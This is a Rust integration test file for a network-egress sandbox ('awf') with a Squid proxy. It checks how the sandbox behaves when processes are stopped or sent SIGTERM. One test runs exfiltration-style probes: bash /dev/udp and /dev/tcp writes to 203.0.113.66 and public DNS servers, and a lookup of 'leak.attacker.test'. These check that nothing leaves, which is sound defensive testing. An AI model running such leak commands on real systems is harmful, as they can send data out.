//! Processes that are stopped: who waits for them, and who must not.

use std::fs;
use std::time::{Duration, Instant};

use nix::sys::signal::Signal;

use crate::faults::{Victim, await_member, find};
use crate::shell::{REQUEST, Shell};
use crate::world::{Watch, World, children, finish, id_of, send, strike};

fn stop(world: &World, shell: &Shell, victim: Victim) -> i32 {
    let pid = await_member(world, shell.awf(), victim);
    strike(pid, Signal::SIGSTOP, &format!("{victim:?}"));
    pid
}

#[test]
fn while_awf_is_stopped_connections_wait_and_nothing_leaves() {
    let world = World::new();
    let watch = Watch::begin();
    let logs = world.path().join("logs");
    let mut shell = Shell::start_with(&world, &["--proxy-logs-dir", logs.to_str().unwrap()]);
    assert_eq!(shell.ask(REQUEST), "0");
    let awf = stop(&world, &shell, Victim::Awf);
    shell.tell("{ curl -s -m 60 -o /dev/null https://example.com; echo later $?; } &");
    shell.tell(
        "for i in $(seq 100); do echo x >/dev/udp/203.0.113.66/9999; echo x >/dev/udp/8.8.4.4/5353; \
         echo x >/dev/tcp/8.8.8.8/53; done 2>/dev/null",
    );
    shell.tell("getent ahosts leak.attacker.test >/dev/null & echo x >/dev/tcp/203.0.113.66/443 &");
    assert_eq!(shell.ask("echo alive"), "alive");
    send(awf, Signal::SIGCONT);
    assert_eq!(shell.hear(), "later 0");
    assert_eq!(shell.ask(REQUEST), "0");
    let run = shell.end();
    assert_eq!(run.code, 0, "{run:#?}");
    watch.saw_nothing_else();
    let records = fs::read_to_string(logs.join("egress.jsonl")).unwrap();
    let refused = awf_tests::attempts_with(&records, "\"8.8.4.4\"");
    assert_eq!(refused + run.lost(), 100, "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn a_hung_squid_fails_requests_in_bounded_time_and_is_replaced() {
    let world = World::new();
    let mut shell = Shell::start(&world);
    assert_eq!(shell.ask(REQUEST), "0");
    stop(&world, &shell, Victim::Squid);
    // 28 would be curl's own patience.
    shell.tell("curl -s -m 90 -o plain http://example.com & plain=$!");
    let tunnel = shell.ask("curl -s -m 90 -o /dev/null https://example.com; echo $?");
    assert!(!["0", "28"].contains(&&*tunnel), "curl's exit code {tunnel}");
    let plain = shell.ask("wait $plain; echo $?");
    assert_ne!(plain, "28");
    let again = shell.ask(&REQUEST.replace("curl", "curl --retry 20 --retry-all-errors"));
    assert_eq!(again, "0");
    let run = shell.end();
    assert!(run.stderr.contains("Squid does not answer any more and is started again"), "{run:#?}");
    assert_eq!(run.code, 0, "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn a_run_ends_while_squid_hangs() {
    let world = World::new();
    let mut shell = Shell::start(&world);
    assert_eq!(shell.ask(REQUEST), "0");
    stop(&world, &shell, Victim::Squid);
    for url in ["https://example.com", "http://example.com", "https://denied.example.net"] {
        shell.tell(&format!("curl -s -m 90 {url} >/dev/null 2>&1 &"));
    }
    assert_eq!(shell.ask("sleep 0.2; echo asked"), "asked");
    let began = Instant::now();
    let run = shell.end();
    assert_eq!(run.code, 0, "{run:#?}");
    assert!(began.elapsed() < Duration::from_secs(15), "{run:#?}");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn a_run_ends_although_the_first_process_of_the_sandbox_is_stopped() {
    let world = World::new();
    let mut shell = Shell::start(&world);
    assert_eq!(shell.ask("echo started"), "started");
    stop(&world, &shell, Victim::Outer);
    shell.tell("exit 5");
    let run = shell.end();
    assert_eq!(run.code, 5, "{run:#?}");
    world.dies_out("the first process was stopped");
    assert_eq!(world.left(), [""; 0]);
}

#[test]
fn sigterm_ends_a_run_of_which_any_process_is_stopped() {
    for victim in [Victim::Squid, Victim::Outer, Victim::One, Victim::Command] {
        let world = World::new();
        let mut shell = Shell::start(&world);
        assert_eq!(shell.ask("echo started"), "started");
        stop(&world, &shell, victim);
        send(shell.awf(), Signal::SIGTERM);
        let run = shell.ended();
        assert_eq!(run.code, 143, "{victim:?}: {run:#?}");
        world.dies_out("SIGTERM");
        assert_eq!(world.left(), [""; 0], "{victim:?}");
    }
}

#[test]
fn sigterm_during_set_up_ends_awf_and_the_command_never_runs() {
    let world = World::new();
    let mark = world.path().join("ran");
    let line = format!("touch {}", mark.display());
    let control = world.run(&[], &line);
    assert!(control.code == 0 && mark.exists(), "positive control: {control:#?}");
    fs::remove_file(&mark).unwrap();
    let mut caught = 0;
    for _attempt in 0..100 {
        if caught == 3 {
            return;
        }
        let began = Instant::now();
        let mut child = world.awf().args(["--", &line]).spawn().unwrap();
        let outer = find(&world, &mut child, Victim::Outer).expect("the sandbox starts");
        send(outer, Signal::SIGSTOP);
        // With process 1 already born, set-up goes on without the first process.
        let held = children(outer).is_empty();
        if !held {
            send(outer, Signal::SIGCONT);
            finish(child, began);
            drop(fs::remove_file(&mark));
            continue;
        }
        strike(id_of(&child), Signal::SIGTERM, "set-up");
        let run = finish(child, began);
        assert_eq!(run.code, 143, "{run:#?}");
        assert!(!mark.exists(), "the command ran: {run:#?}");
        world.dies_out("SIGTERM during set-up");
        assert_eq!(world.left(), [""; 0]);
        caught += 1;
    }
    panic!("set-up was caught {caught} times in 100 attempts");
}
